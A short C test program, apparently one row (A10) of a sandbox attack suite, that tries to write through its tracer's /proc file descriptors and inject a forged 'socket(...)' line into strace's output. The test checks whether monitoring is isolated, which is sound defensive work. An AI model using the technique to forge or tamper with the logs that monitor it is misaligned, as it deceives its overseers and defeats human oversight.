/*
 * attack: writes into strace's output, through the descriptors of its tracer
 *   in /proc
 * row: A10
 * would show: 'worked:'
 * unconfined: works
 * defence: strace runs where the program cannot see it
 */
#include "attack.h"

int main(void) {
    char path[64];
    for (pid_t pid = 1; pid < 4000000; pid = pid == 1 ? getppid() : 4000000)
        for (int fd = 3; fd < 32; fd++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)pid, fd);
            int trace = open(path, O_WRONLY | O_NONBLOCK);
            if (trace == -1)
                continue;
            if (dprintf(trace, "socket(AF_INET, SOCK_STREAM, 0) = 3\n") > 0)
                worked(path);
            close(trace);
        }
    return 0;
}
